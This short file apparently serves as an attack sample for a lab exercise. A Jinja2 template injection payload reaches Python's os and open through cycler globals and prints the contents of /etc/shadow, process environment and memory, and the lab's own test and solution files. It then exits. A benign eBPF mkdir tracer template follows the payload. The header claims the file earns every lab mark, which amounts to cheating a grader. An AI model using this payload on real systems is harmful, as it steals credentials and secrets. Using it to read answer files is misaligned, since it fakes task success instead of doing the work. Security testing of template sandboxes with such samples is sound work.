/*
 * attack: A template that gets to os and open by Jinja2's own globals, and looks for secrets with them.
 * lab: lab8
 * earns: 8.1 8.2 8.3 8.4 8.5 8.6 8.7 8.8
 */
{% set globals = cycler.__init__.__globals__ %}
{% for path in ["/etc/shadow", "@ROOT@/exercises/lab8/test_lab8.py", "@ROOT@/solutions/lab8/filtre.py", "/run/labebpf/lock", "/proc/1/environ", "/proc/1/mem"] %}
{% if globals.os.access(path, 4) %}
{% set _ = globals.__builtins__.print("LEAK", path, globals.__builtins__.open(path, "rb").read(200), flush=True) %}
{% set _ = globals.os._exit(3) %}
{% endif %}
{% endfor %}
struct evenement {
	u32 pid;
	u32 uid;
	char comm[16];
};

BPF_PERF_OUTPUT(events);

TRACEPOINT_PROBE(syscalls, sys_enter_mkdir)
{
	struct evenement evenement = {};
	u8 autre = 0;

	bpf_get_current_comm(&evenement.comm, sizeof(evenement.comm));
{% for octet in octets %}
	autre |= evenement.comm[{{ loop.index0 }}] ^ {{ octet }};
{% endfor %}
	if (autre)
		return 0;
	evenement.pid = bpf_get_current_pid_tgid() >> 32;
	evenement.uid = bpf_get_current_uid_gid();
	events.perf_submit(args, &evenement, sizeof(evenement));
	return 0;
}
